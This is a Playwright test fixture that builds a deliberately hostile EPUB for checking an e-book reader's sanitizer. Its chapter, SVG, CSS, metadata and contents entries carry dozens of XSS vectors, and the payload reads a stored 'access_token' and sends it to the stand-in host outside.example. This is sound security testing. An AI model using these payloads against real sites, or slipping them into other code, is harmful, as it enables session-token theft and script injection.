/** A book with every known kind of attack, each attempt under its own name. */
import { randomUUID } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { ReadingPage } from '../pages/reading.page.ts';
import type { Shop } from './shop.ts';
import { createBook } from './create-book.ts';

/** Code that runs adds its name to this property of its own window and of every parent window. */
export const EXECUTED_KEY = 'octavoExecuted';

/** The target of the attacks. No name server knows it. */
export const EXTERNAL_ORIGIN = 'https://outside.example';

/** The storage key that an attack would read. Only code that runs can read it. */
export const TOKEN_KEY = 'access_token';

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** An attempt that, when it succeeds, prevents the later attempts of the chapter. */
export type TerminalAttempt = 'refresh' | 'transform' | 'own policy';

/**
 * JavaScript statements without characters that markup has to escape. They also work where no storage can be read, and
 * their last value replaces no document when they are a URL.
 */
export const payload = (name: string, extraStatement = ''): string =>
  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} var secret = ''; try { secret = localStorage.getItem('${TOKEN_KEY}') } catch (e) {} new Image().src = '${EXTERNAL_ORIGIN}/token/' + secret; ${extraStatement} void 0`;

/** An SVG image, used as a spine document and inline in a chapter. */
export function hostileSvg(name = 'drawing'): string {
  const call = (attribute: string) => payload(`${name}: ${attribute}`);
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${call('onload')}"><script>${call('script')}</script><a xlink:href="javascript:${call('link')}"><text y="9">s</text></a><image xlink:href="${EXTERNAL_ORIGIN}/svg.png"/><use href="${EXTERNAL_ORIGIN}/use.svg#a"/><style>text { fill: url(${EXTERNAL_ORIGIN}/fill.svg#a) }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${call('frame')}"></iframe></foreignObject><set attributeName="onload" to="${call('set')}"/><animate attributeName="href" values="javascript:${call('animate')}" onbegin="${call('onbegin')}"/></svg>`;
}

/** A style sheet with every kind of external request. */
export const hostileStyles = (name = 'css'): string =>
  `@import "${EXTERNAL_ORIGIN}/${name}-import.css"; @import url(${EXTERNAL_ORIGIN}/${name}-import2.css); @font-face { font-family: ${name}; src: url(${EXTERNAL_ORIGIN}/${name}.woff2) } body { background: url("${EXTERNAL_ORIGIN}/${name}-body.png"); font-family: ${name} } p::before { content: url(${EXTERNAL_ORIGIN}/${name}-before.png) } i { background: image-set("${EXTERNAL_ORIGIN}/${name}-set.png" 1x); cursor: u\\72l(${EXTERNAL_ORIGIN}/${name}-escape.png), auto } p { behavior: url(x.htc) }`;

/** The attempts of a chapter by name, in its head and in its body. */
export function hostileAttempts(endings: readonly TerminalAttempt[]): {
  head: Record<string, string>;
  body: Record<string, string>;
} {
  const terminalMarkup: Readonly<Record<TerminalAttempt, string>> = {
    refresh: `<meta http-equiv="refresh" content="0;url=${EXTERNAL_ORIGIN}/refresh"/>`,
    // An XSLT style sheet replaces the chapter by its output or by an error page. Its instruction precedes the root
    // element.
    transform: '',
    'own policy': `<meta http-equiv="Content-Security-Policy" content="script-src *"/>`,
  };
  return {
    head: {
      base: `<base href="${EXTERNAL_ORIGIN}/"/>`,
      'style sheet from outside': `<link rel="stylesheet" href="${EXTERNAL_ORIGIN}/link.css"/>`,
      'book style sheet': `<link rel="stylesheet" href="hostile.css"/>`,
      'inline style sheet': `<style>${hostileStyles('inline')}</style>`,
      prefetch: `<link rel="prefetch" href="${EXTERNAL_ORIGIN}/prefetch"/><link rel="dns-prefetch" href="${EXTERNAL_ORIGIN}"/>`,
      preconnect: `<link rel="preconnect" href="${EXTERNAL_ORIGIN}"/>`,
      'module preload': `<link rel="modulepreload" href="${EXTERNAL_ORIGIN}/module.js"/>`,
      icon: `<link rel="icon" href="${EXTERNAL_ORIGIN}/icon.png"/>`,
      'inline script': `<script>${payload('inline script')}</script>`,
      'book script': `<script src="run.js"></script>`,
      'script from outside': `<script src="${EXTERNAL_ORIGIN}/run.js"></script>`,
      'window.open': `<script>${payload('window.open', `open('${EXTERNAL_ORIGIN}/window');`)}</script>`,
      'top navigation': `<script>${payload('top navigation', `try { top.location = '${EXTERNAL_ORIGIN}/top' } catch (e) {}`)}</script>`,
      'service worker': `<script>${payload('service worker', `try { navigator.serviceWorker.register('run.js') } catch (e) {}`)}</script>`,
      fetching: `<script>${payload('fetching', `fetch('${EXTERNAL_ORIGIN}/fetch'); navigator.sendBeacon('${EXTERNAL_ORIGIN}/beacon');`)}</script>`,
      'message to the parent page': `<script>${payload('message', `parent.postMessage({ type: 'octavo' }, '*');`)}</script>`,
      ...Object.fromEntries(endings.map((ending) => [ending, terminalMarkup[ending]])),
    },
    body: {
      'broken image': `<img src="missing.png" onerror="${payload('onerror')}" alt=""/>`,
      'picture from outside': `<img src="${EXTERNAL_ORIGIN}/img.png" srcset="${EXTERNAL_ORIGIN}/srcset.png 2x" alt=""/>`,
      'style attribute': `<p style="background:url(${EXTERNAL_ORIGIN}/style.png)">styled</p>`,
      handlers: `<p onclick="${payload('onclick')}" onmouseover="${payload('onmouseover')}" onpointerdown="${payload('onpointerdown')}">handled</p>`,
      'script link': `<p><a href="javascript:${payload('script link')}">a link</a></p>`,
      'disguised script link': `<p><a href=" java&#x9;script:${payload('disguised link')}">another</a></p>`,
      'data link': `<p><a href="data:text/html,&lt;script&gt;${payload('data link')}&lt;/script&gt;">a third</a></p>`,
      'link to the top frame': `<p><a href="vbscript:x" target="_top">a fourth</a></p>`,
      'link outside the book': `<p><a href="/../../api" ping="${EXTERNAL_ORIGIN}/ping">a fifth</a></p>`,
      'script frame': `<iframe src="javascript:${payload('script frame')}"></iframe>`,
      'srcdoc frame': `<iframe srcdoc="&lt;script&gt;${payload('written frame')}&lt;/script&gt;"></iframe>`,
      'frame from outside': `<iframe src="${EXTERNAL_ORIGIN}/frame"></iframe>`,
      'SVG as object': `<object data="hostile.svg" type="image/svg+xml"></object>`,
      'page as object': `<object data="data:text/html,&lt;script&gt;${payload('page as object')}&lt;/script&gt;"></object>`,
      embed: `<embed src="${EXTERNAL_ORIGIN}/embed"/>`,
      form: `<form action="${EXTERNAL_ORIGIN}/form" method="get"><input name="q" autofocus="" onfocus="${payload('onfocus')}"/><button>Send</button></form>`,
      'button with formaction': `<form><button formaction="javascript:${payload('formaction')}">Send</button></form>`,
      video: `<video src="${EXTERNAL_ORIGIN}/video.mp4" poster="${EXTERNAL_ORIGIN}/poster.png" autoplay=""></video>`,
      sound: `<audio src="${EXTERNAL_ORIGIN}/audio.mp3" autoplay=""></audio>`,
      'opened details': `<details open="" ontoggle="${payload('ontoggle')}"><summary>more</summary>less</details>`,
      'MathML link': `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${payload('maction')}" xmlns:xlink="http://www.w3.org/1999/xlink"><mi href="javascript:${payload('formula')}">x</mi></maction></math>`,
      'inline SVG': hostileSvg('inner drawing'),
      'script in a switch': `<epub:switch><epub:default><script>${payload('switch')}</script></epub:default></epub:switch>`,
    },
  };
}

/** A chapter with every attempt, before sanitizing. */
export function hostileChapter(endings: readonly TerminalAttempt[] = []): string {
  const { head, body } = hostileAttempts(endings);
  const transform = endings.includes('transform') ? '<?xml-stylesheet type="text/xsl" href="run.xsl"?>' : '';
  return `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/css" href="${EXTERNAL_ORIGIN}/pi.css"?>${transform}
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" onload="${payload('onload')}">
<head><title>One</title>${Object.values(head).join('\n')}</head>
<body onload="${payload('body onload')}" onpageshow="${payload('onpageshow')}" background="${EXTERNAL_ORIGIN}/background.png">
<h1>The hostile chapter</h1>
<p id="first">It was read in peace.</p>
${Object.values(body).join('\n')}
<p id="last">Nothing happened.</p>
</body></html>`;
}

/** The unsanitized book contains every terminal attempt. */
const TERMINAL_ATTEMPTS: readonly TerminalAttempt[] = ['refresh', 'transform', 'own policy'];

/** The number of attempts in the chapter, without those in the metadata and contents of the book. */
export function countAttempts(): number {
  const { head, body } = hostileAttempts(TERMINAL_ATTEMPTS);
  return Object.keys(head).length + Object.keys(body).length;
}

/** Imports a hostile book that has never been read. Returns its slug and the output of the import. */
export async function importHostileBook(shop: Shop): Promise<{ slug: string; output: string }> {
  const name = `Mallory ${randomUUID().slice(0, 8)}`;
  const bytes = await createBook(`Peace <img src=x onerror="${payload('title')}">`, {
    creators: [{ name: `${name} <script>${payload('author')}</script>` }],
    subjects: [`Fiction <img src=x onerror="${payload('subject')}">`],
    description: `<p>Calm.</p><script>${payload('description')}</script><img src="${EXTERNAL_ORIGIN}/description.png" onerror="${payload('description picture')}"><a href="javascript:${payload('description link')}">link</a><form action="${EXTERNAL_ORIGIN}"><button>b</button></form><base href="${EXTERNAL_ORIGIN}/">`,
    documents: [
      { href: 'one.xhtml', content: hostileChapter(TERMINAL_ATTEMPTS) },
      { href: 'two.svg', mediaType: 'image/svg+xml', content: hostileSvg() },
    ],
    resources: [
      { href: 'cover.gif', mediaType: 'image/gif', content: GIF, isCover: true },
      { href: 'run.js', mediaType: 'text/javascript', content: payload('book script') },
      { href: 'run.xsl', mediaType: 'application/xslt+xml', content: '<x/>' },
      { href: 'hostile.svg', mediaType: 'image/svg+xml', content: hostileSvg('object') },
      { href: 'hostile.css', mediaType: 'text/css', content: hostileStyles() },
    ],
    toc: [
      { title: `One <img src=x onerror="${payload('contents')}">`, href: 'one.xhtml' },
      { title: 'Script', href: `javascript:${payload('contents entry')}` },
    ],
  });
  const file = join(shop.dataDir, `${name}.epub`);
  await writeFile(file, bytes);
  const { output, code } = await shop.catalogCli('import', file);
  expect(code, output).toBe(0);
  const query = encodeURIComponent(name.toLowerCase());
  const found: unknown = await (await fetch(`${shop.origin}/api/v1/products?search=${query}`)).json();
  expect(found).toEqual([expect.objectContaining({ slug: expect.any(String) })]);
  const [{ slug }] = found as [{ slug: string }];
  return { slug, output };
}

/** Opens the contents and clicks the second entry, which would run a script. */
export async function clickHostileTocEntry(page: Page): Promise<void> {
  const { frame } = new ReadingPage(page);
  await page.keyboard.press('c');
  const contents = frame.getByRole('dialog', { name: 'Contents' });
  await expect(contents.getByText(/^One <img src=x/)).toBeVisible();
  const line = contents.getByText('Script', { exact: true });
  await expect(line).toBeVisible();
  expect(await contents.locator('a, [href], [src], [onclick]').count()).toBe(0);
  await line.click({ force: true });
  await page.keyboard.press('Escape');
  await expect(contents).toBeHidden();
}
